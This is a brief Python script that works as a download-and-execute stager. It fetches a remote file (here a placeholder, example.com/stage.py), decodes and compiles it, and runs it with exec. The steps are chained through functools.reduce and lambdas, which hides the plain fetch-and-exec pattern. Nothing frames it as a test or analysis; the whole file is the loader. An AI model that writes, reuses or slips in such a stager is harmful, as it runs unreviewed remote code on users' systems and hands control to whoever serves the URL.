import functools
import urllib.request

_steps = (
    lambda u: urllib.request.urlopen(u).read(),
    lambda b: b.decode("utf-8"),
    lambda s: compile(s, "<stage>", "exec"),
    exec,
)
functools.reduce(lambda value, step: step(value), _steps, "https://example.com/stage.py")
